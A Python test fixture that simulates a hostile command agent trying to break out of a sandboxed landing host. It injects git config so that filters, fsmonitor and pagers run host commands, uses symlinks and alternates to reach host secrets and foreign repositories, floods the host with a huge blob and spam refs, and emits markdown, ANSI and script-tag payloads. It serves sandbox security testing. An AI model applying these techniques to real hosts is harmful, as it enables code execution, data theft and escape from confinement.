#!/usr/bin/python3
"""A hostile land-fixer job: the command agent as an attacker writes it.

It runs with the checkout as its working directory (in the sandbox through landbot, or
unconfined as a test's control) and reads what to do from `.hostile.json`, a file the
attacker committed in the pull request. Without that file it is a benign agent that hands
the drop back (the job that creates another repository's mirror).

Every attack first commits a genuine fix of app.py (41 -> 42), so a host that publishes
only what it validated still has something honest to push, and says in its verdict and its
commit message `ran-<attack>-<nonce>`: the proof, seen in the hand-back or in the pushed
commit, that the confined attempt ran. With HOSTILE_CONTROL=1 (a control run, unconfined)
the host markers get a `-control` suffix so the two runs never share a marker.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import zlib
from pathlib import Path
from typing import Any

GIT = Path(".git")


def git(*args: str, stdin: bytes | None = None) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=mallory", "-c", "user.email=mallory@example.invalid", *args],
        input=stdin,
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        sys.stderr.write(f"git {' '.join(args)}: {done.stderr.decode(errors='replace')}\n")
        raise SystemExit(3)
    return done.stdout.decode().strip()


def verdict(obj: dict[str, Any]) -> None:
    with open(os.environ["LANDBOT_VERDICT_FILE"], "w") as f:
        json.dump(obj, f)


def fixed(ran: str, extra: str = "") -> None:
    verdict(
        {
            "verdict": "fixed",
            "summary": f"{ran}: answer() returned 41 {extra}".strip(),
            "recommendation": "",
            "reproduced": True,
        }
    )


def fix_app() -> None:
    src = Path("app.py").read_text()
    Path("app.py").write_text(src.replace("return 41", "return 42"))
    git("add", "app.py")


def commit_index(ran: str, missing_ok: bool = False) -> str:
    """Commit the index on top of HEAD with low-level commands (a tree may name objects
    this repository does not have), and move HEAD there."""
    tree = git("write-tree", *(["--missing-ok"] if missing_ok else []))
    head = git("rev-parse", "HEAD")
    commit = git("commit-tree", tree, "-p", head, "-m", ran)
    git("update-ref", "HEAD", commit)
    return commit


def loosen_own_packs() -> None:
    """Make this clone's own objects loose, so its pack folder can be swapped for a link."""
    pack_dir = GIT / "objects" / "pack"
    if pack_dir.is_symlink() or not pack_dir.is_dir():
        return
    aside = Path(os.environ.get("TMPDIR", "/tmp")) / f"hostile-packs-{os.getpid()}"
    aside.mkdir()
    for item in pack_dir.iterdir():
        shutil.move(str(item), aside / item.name)
    for pack in sorted(aside.glob("*.pack")):
        with open(pack, "rb") as f:
            subprocess.run(["git", "unpack-objects", "-q"], stdin=f, check=True)
    pack_dir.rmdir()


HOST_COMMAND = "echo host-ran-{what} uid=$(id -u) >> {marker}"


def plant_config(marker: str) -> None:
    """A commondir whose config runs `marker` from git on the host: fsmonitor, a filter on
    every path, a diff driver, a pager, an external diff, plus grafts and a gitdir file."""
    head = git("rev-parse", "HEAD")  # before the commondir makes git read elsewhere
    common = GIT / "evil-common"
    common.mkdir()
    for name in ("objects", "refs"):
        os.symlink(f"../{name}", common / name)
    if (GIT / "packed-refs").exists():
        os.symlink("../packed-refs", common / "packed-refs")

    def cmd(what: str) -> str:
        return HOST_COMMAND.format(what=what, marker=marker)

    (common / "config").write_text(
        "[core]\n"
        "\trepositoryformatversion = 0\n"
        "\tbare = false\n"
        f'\tfsmonitor = "{cmd("fsmonitor")}; echo"\n'
        f'\tpager = "{cmd("pager")}; cat"\n'
        '[filter "hostile"]\n'
        f'\tclean = "{cmd("clean")}; cat"\n'
        f'\tsmudge = "{cmd("smudge")}; cat"\n'
        '[diff "hostile"]\n'
        f'\ttextconv = "{cmd("textconv")}; cat"\n'
        "[diff]\n"
        f'\texternal = "{cmd("external")}; true"\n'
    )
    (GIT / "commondir").write_text("evil-common\n")
    (GIT / "gitdir").write_text(str(Path.cwd() / ".git") + "\n")
    info = GIT / "info"
    info.mkdir(exist_ok=True)
    (info / "attributes").write_text("* filter=hostile diff=hostile\n")
    (info / "grafts").write_text(head + "\n")  # HEAD without parents
    # Every file's stat data changes, so the next `git status` re-hashes through the filter.
    for path in Path(".").iterdir():
        if path.is_file():
            os.utime(path, (1, 1))


def huge_blob(size: int) -> str:
    """A loose blob of `size` zero bytes, written as git would (zlib, a few hundred KB on
    disk), without ever holding it in memory."""
    header = f"blob {size}\0".encode()
    sha = hashlib.sha1(header)
    z = zlib.compressobj(9)
    parts = [z.compress(header)]
    chunk = bytes(1 << 20)
    left = size
    while left:
        piece = chunk[: min(left, len(chunk))]
        sha.update(piece)
        parts.append(z.compress(piece))
        left -= len(piece)
    parts.append(z.flush())
    oid = sha.hexdigest()
    folder = GIT / "objects" / oid[:2]
    folder.mkdir(exist_ok=True)
    (folder / oid[2:]).write_bytes(b"".join(parts))
    return oid


HOSTILE_TEXT = (
    "@everyone @acme/admins @octocat look at [the real fix](https://evil.example/fix) "
    '<img src="https://evil.example/pixel.png"> <a href="https://evil.example">here</a> '
    "www.evil.example/x \x1b[31mRED\x1b[0m \x1b]0;pwned\x07 \x1b[2J \u202eevil\u202c "
    "<!-- landbot:handback --> <script>alert(1)</script> ![i](https://evil.example/i.png) "
    "javascript:alert(1) #1 GH-2"
)


def main() -> None:
    spec_file = Path(".hostile.json")
    if not spec_file.is_file():
        verdict(
            {
                "verdict": "needs_human",
                "summary": "benign job: nothing to fix here",
                "recommendation": "",
                "reproduced": False,
            }
        )
        return
    spec = json.loads(spec_file.read_text())
    attack: str = spec["attack"]
    ran = f"ran-{attack}-{spec['nonce']}"
    control = "-control" if os.environ.get("HOSTILE_CONTROL") else ""
    marker = spec["host_marker"] + control
    print(ran, flush=True)
    if attack == "text":
        verdict(
            {
                "verdict": "needs_human",
                "summary": f"{ran} {HOSTILE_TEXT}",
                "recommendation": f"{HOSTILE_TEXT} @bob",
                "reproduced": True,
            }
        )
        return
    if attack == "verdict_link":
        # The verdict is a link to a host file holding a verdict of its own: a host that
        # follows it posts the host file's text.
        os.symlink(spec["host_secret"], os.environ["LANDBOT_VERDICT_FILE"])
        raise SystemExit(97)  # "exited with code 97" in the hand-back: the proof it ran
    fix_app()
    if attack == "alternates":
        alternates = GIT / "objects" / "info" / "alternates"
        alternates.parent.mkdir(exist_ok=True)
        alternates.write_text(spec["foreign_mirror"] + "/objects\n")
        git("update-index", "--add", "--cacheinfo", f"100644,{spec['foreign_oid']},stolen.txt")
        commit_index(ran, missing_ok=True)
    elif attack == "pack_link":
        loosen_own_packs()
        os.symlink(spec["foreign_mirror"] + "/objects/pack", GIT / "objects" / "pack")
        git("update-index", "--add", "--cacheinfo", f"100644,{spec['foreign_oid']},stolen.txt")
        commit_index(ran, missing_ok=True)
    elif attack == "layout":
        commit_index(ran)  # an honest commit; everything hostile is under .git
        plant_config(marker)
    elif attack == "quest_link":
        git("rm", "-rq", "--cached", "quest")
        shutil.rmtree("quest")
        os.symlink(spec["host_dir"], "quest")
        git("add", "quest")
        commit_index(ran)
    elif attack == "huge":
        oid = huge_blob(int(spec["huge_size"]))
        git("update-index", "--add", "--cacheinfo", f"100644,{oid},huge.bin")
        commit = commit_index(ran)
        packed = GIT / "packed-refs"
        kept = packed.read_text().splitlines(keepends=True) if packed.exists() else []
        with open(packed, "w") as refs:
            refs.write("# pack-refs with: peeled\n")  # not "sorted": git sorts them itself
            refs.writelines(line for line in kept if not line.startswith("#"))
            for i in range(int(spec["refs"])):
                refs.write(f"{commit} refs/heads/spam-{i:05d}\n")
    else:
        raise SystemExit(f"unknown attack {attack!r}")
    fixed(ran)


if __name__ == "__main__":
    main()
